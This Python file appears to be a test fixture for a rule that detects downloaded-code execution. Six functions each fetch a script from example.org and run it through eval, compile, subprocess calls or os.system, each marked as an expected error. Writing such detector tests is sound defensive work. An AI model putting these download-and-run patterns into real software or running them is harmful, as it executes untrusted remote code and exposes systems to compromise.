import os
from subprocess import Popen, check_call, check_output
from urllib.request import urlretrieve

HOST = "https://example.org/"


def evaluated():
    urlretrieve("https://example.org/a.py", "a.py")
    return eval(open("a.py").read())  # expect: downloaded-code-executed=error


def compiled():
    urlretrieve("https://example.org/b.py", "b.py")
    return compile(open("b.py").read(), "b.py", "eval")  # expect: downloaded-code-executed=error


def called():
    urlretrieve("https://example.org/c.py", "c.py")
    check_call(["python", "c.py"])  # expect: downloaded-code-executed=error


def asked():
    urlretrieve("https://example.org/d.py", "d.py")
    return check_output(["python", "d.py"])  # expect: downloaded-code-executed=error


def opened():
    urlretrieve("https://example.org/e.py", "e.py")
    return Popen(["python", "e.py"])  # expect: downloaded-code-executed=error


def shelled():
    urlretrieve("https://example.org/f.sh", "f.sh")
    os.system("bash f.sh")  # expect: downloaded-code-executed=error
